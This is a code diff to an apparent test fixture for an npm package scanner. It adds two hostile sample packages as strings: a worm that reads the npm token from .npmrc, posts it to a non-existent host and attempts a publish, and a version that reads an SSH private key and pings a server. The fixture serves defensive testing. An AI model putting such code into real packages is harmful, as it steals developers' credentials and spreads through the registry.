@@ -19,7 +19,7 @@ type Declared = Pick<HostilePackage, "what" | "decision" | "because"> & {
   readonly manifest?: JsonObject;
   readonly registryManifest?: JsonObject;
   readonly publishedAtMs?: number;
-  readonly tarball?: (manifest: object, marker: string) => Uint8Array;
+  readonly tarball?: (manifest: JsonObject, marker: string) => Uint8Array;
   readonly tampers?: boolean;
 };
 
@@ -83,7 +83,41 @@ const DECLARED: readonly Declared[] = [
     because: /minutes ago|hours/,
     publishedAtMs: Date.now() - 10 * MINUTE_MS,
   },
+  {
+    what: "a worm that starts when it is imported",
+    name: "import-time-worm",
+    decision: "block",
+    because: /\.npmrc/,
+    tarball: (manifest, marker) => packed(manifest, { "index.js": WORM, "marker.txt": marker }),
+  },
+  {
+    what: "a version that learned to read keys and to reach a server",
+    name: "gained-capability",
+    decision: "hold",
+    because: /it can now do together what 1\.0\.0 could not/,
+    tarball: (manifest, marker) => packed(manifest, { "index.js": GAINS, "marker.txt": marker }),
+  },
 ];
+
+/** As worms of 2025 did it at import, with hosts that do not exist. */
+const WORM = `
+const { readFileSync } = require("node:fs");
+const { homedir } = require("node:os");
+const { join } = require("node:path");
+const { execFileSync } = require("node:child_process");
+const token = /_authToken=(\\S+)/.exec(readFileSync(join(homedir(), ".npmrc"), "utf8"))?.[1];
+fetch("https://collector.invalid/take", { method: "POST", body: JSON.stringify({ token }) });
+execFileSync("npm", ["publish", "--dry-run"], { cwd: join(__dirname, "none"), env: { NPM_TOKEN: token } });
+`;
+
+/** Each is ordinary by itself; a package that did neither has no reason to begin with both. */
+const GAINS = `
+const { readFileSync } = require("node:fs");
+const { homedir } = require("node:os");
+const { join } = require("node:path");
+exports.identity = () => readFileSync(join(homedir(), ".ssh", "id_ed25519"), "utf8");
+exports.ping = (version) => fetch("https://ping.invalid/?v=" + version);
+`;
 
 export function hostilePackages(): readonly HostilePackage[] {
   return DECLARED.map((declared) => hostilePackage(declared));
